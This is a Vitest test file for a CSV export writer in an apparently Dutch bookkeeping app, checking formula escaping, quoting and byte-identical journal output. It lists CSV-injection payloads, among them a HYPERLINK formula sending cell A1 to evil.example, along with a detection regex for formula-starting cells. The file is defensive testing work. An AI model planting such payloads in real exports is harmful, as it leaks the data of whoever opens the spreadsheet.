import { describe, expect, it } from 'vitest';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { parse } from 'csv-parse/sync';
import { csvStream, csvText, type CsvColumn } from './csv.js';
import { formatAmount } from '../modules/journal/journal.kinds.js';

/** What a spreadsheet would run as a formula: a cell starting with one of these (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

const euros = (cents: number) => formatAmount(cents, 'NL') || '0,00';
const COLUMNS: CsvColumn[] = [{ header: 'Naam' }, { header: 'Bedrag', number: euros }];

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1;"Klik")',
  '+31 6 12345678',
  '-foo',
  '@SUM(A1:A2)',
  '\tcmd',
  '\rcmd',
  '\uff1d1+1',
  'quote " and ; inside',
];

describe('the CSV writer (platform/csv.ts, csv-stringify with formula escaping)', () => {
  it('writes every hostile text cell as text, quoted where it must be, and reads back the same text', () => {
    const text = csvText(
      COLUMNS,
      HOSTILE.map((name) => [name, 1250]),
      { delimiter: ';' },
    );
    const rows: string[][] = parse(text, { delimiter: ';', from_line: 2 });
    expect(rows).toHaveLength(HOSTILE.length);
    rows.forEach(([cell], i) => {
      expect(cell, HOSTILE[i]).not.toMatch(FORMULA_START);
      // Neutralised by one leading apostrophe, nothing else changed (quotes and the delimiter survive the round trip).
      expect(cell === HOSTILE[i] || cell === `'${HOSTILE[i]}`, cell).toBe(true);
    });
    expect(rows.find(([cell]) => cell!.includes('inside'))![0]).toBe('quote " and ; inside');
  });

  it('keeps a negative amount in a number column a number, and escapes text that ends up in one', () => {
    const text = csvText(
      COLUMNS,
      [
        ['Terugbetaling', -1250],
        ['Nul', 0],
        ['Groot', 123456789],
        ['Tekst in een getalkolom', '-12,50' as never],
        ['Formule in een getalkolom', '=1+1' as never],
      ],
      { delimiter: ';' },
    );
    const rows: string[][] = parse(text, { delimiter: ';', from_line: 2 });
    expect(rows.map((r) => r[1])).toEqual(['-12,50', '0,00', '1.234.567,89', "'-12,50", "'=1+1"]);
  });

  it('quotes a lone CR or LF inside a cell whatever the record delimiter', () => {
    for (const recordDelimiter of ['\n', '\r\n'] as const) {
      const text = csvText([{ header: 'a' }, { header: 'b' }], [['een\nregel', 'x\ry']], {
        delimiter: ',',
        recordDelimiter,
      });
      expect(parse(text, { from_line: 2 })).toEqual([['een\nregel', 'x\ry']]);
    }
  });

  it('leaves the bytes of harmless journal lines as they were (the journal export stays byte-identical)', () => {
    // The journal's lines before the writer: csv-stringify with `;`/`,` and CRLF, amounts formatted, descriptions and
    // references as text. These bytes are what exports of earlier periods held.
    const columns: CsvColumn[] = [
      'datum',
      'dagboek',
      'grootboekrekening',
      'kostenplaats',
      'debet',
      'credit',
      'omschrijving',
      'referentie',
    ].map((header, i) => (i === 4 || i === 5 ? { header, number: (c: number) => formatAmount(c, 'NL') } : { header }));
    const csv = { delimiter: ';', recordDelimiter: '\r\n' } as const;
    expect(csvText(columns, [], csv)).toBe(
      'datum;dagboek;grootboekrekening;kostenplaats;debet;credit;omschrijving;referentie\r\n',
    );
    expect(
      csvText(
        columns,
        [
          ['01-03-2026', 'GW', '4000', 'KP-12', 123456, 0, 'Toegekend: Kindpakket 2026', 'B-000123'],
          ['02-03-2026', 'GW', '4001', '', 0, 1250, 'Bestelling B-000124; "zwemles"', 'B-000124'],
        ],
        { ...csv, header: false },
      ),
    ).toBe(
      '01-03-2026;GW;4000;KP-12;1.234,56;;Toegekend: Kindpakket 2026;B-000123\r\n' +
        '02-03-2026;GW;4001;;;12,50;"Bestelling B-000124; ""zwemles""";B-000124\r\n',
    );
  });

  it('streams: rows in, text out, with the byte-order mark once', async () => {
    const chunks: string[] = [];
    await pipeline(
      Readable.from([
        ['=1', -5],
        ['b', 7],
      ]),
      csvStream(COLUMNS, { delimiter: ';', bom: true }),
      async (source: AsyncIterable<Buffer | string>) => {
        for await (const chunk of source) chunks.push(String(chunk));
      },
    );
    expect(chunks.join('')).toBe("\ufeffNaam;Bedrag\n'=1;-0,05\nb;0,07\n");
  });
});
